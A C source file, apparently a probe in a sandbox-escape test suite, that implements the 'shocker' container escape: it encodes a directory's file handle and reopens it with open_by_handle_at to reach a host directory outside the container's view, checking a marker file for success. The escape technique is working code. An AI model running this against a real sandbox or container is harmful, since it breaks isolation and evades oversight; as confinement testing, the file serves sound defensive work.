/* SPDX-License-Identifier: LicenseRef-agentbox-unlicensed */
/* fhandle: open a directory by its handle (inode number and generation), never by path: the
 * "shocker" escape. A handle made on the host names a directory outside the view;
 * open_by_handle_at with any directory of the same file system as the mount would open it.
 *   fhandle get DIR                              print "HANDLE TYPE HEX" for DIR
 *   fhandle open MNTDIR TYPE HEX NAME MARKER [own]
 *                                                open_by_handle_at(MNTDIR, handle, O_DIRECTORY),
 *                                                then NAME in that directory: SUCCESS when it
 *                                                holds MARKER
 *   fhandle self PATH                            name_to_handle_at on a path it can see
 * own (the positive control for an unprivileged caller): first a user and mount namespace of its
 * own and a bind mount of MNTDIR made there: since Linux 6.10 a caller may decode directory
 * handles below a mount it controls (fs/fhandle.c, may_decode_fh). */
#include "escape.h"

#include <sys/mount.h>
#include <sys/stat.h>

int main(int argc, char **argv)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	int mount_id;

	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	if (argc == 3 && (!strcmp(argv[1], "get") || !strcmp(argv[1], "self"))) {
		if (name_to_handle_at(AT_FDCWD, argv[2], &h.fh, &mount_id, 0) < 0)
			failed(errno, "name_to_handle_at(%s)", argv[2]);
		if (!strcmp(argv[1], "self"))
			success("name_to_handle_at(%s) gave a %u-byte handle", argv[2],
				h.fh.handle_bytes);
		printf("HANDLE %d ", h.fh.handle_type);
		for (unsigned i = 0; i < h.fh.handle_bytes; i++)
			printf("%02x", (unsigned char)h.fh.f_handle[i]);
		printf("\n");
		return 0;
	}
	if (argc >= 7 && !strcmp(argv[1], "open")) {
		const char *hex = argv[4];
		char data[4096];
		int mfd, dfd, fd;
		ssize_t n;
		if (argc == 8 && !strcmp(argv[7], "own")) {
			/* a bind mount of DIR made in a mount namespace it owns: handles below it
			 * may be decoded there (fs/fhandle.c, may_decode_fh) */
			if (own_userns(CLONE_NEWNS) < 0)
				failed(errno, "control: a user and mount namespace of its own");
			if (mount(argv[2], argv[2], NULL, MS_BIND, NULL) < 0)
				failed(errno, "control: bind %s on itself", argv[2]);
		}
		h.fh.handle_type = atoi(argv[3]);
		h.fh.handle_bytes = (unsigned)strlen(hex) / 2;
		if (h.fh.handle_bytes > MAX_HANDLE_SZ)
			usage("handle too long");
		for (unsigned i = 0; i < h.fh.handle_bytes; i++)
			sscanf(hex + 2 * i, "%2hhx", (unsigned char *)&h.fh.f_handle[i]);
		if ((mfd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0)
			failed(errno, "open %s", argv[2]);
		if ((dfd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC)) < 0)
			failed(errno, "open_by_handle_at(%s, handle, O_DIRECTORY)", argv[2]);
		if ((fd = openat(dfd, argv[5], O_RDONLY | O_CLOEXEC)) < 0)
			failed(errno, "openat(handle's directory, %s)", argv[5]);
		n = read(fd, data, sizeof(data) - 1);
		data[n > 0 ? n : 0] = '\0';
		if (!strstr(data, argv[6]))
			failed(0, "%s in the handle's directory lacks the marker", argv[5]);
		success("open_by_handle_at opened the directory by its handle; read %s", argv[5]);
	}
	usage(
	    "fhandle get DIR | fhandle open MNTDIR TYPE HEX NAME MARKER [own] | fhandle self PATH");
}
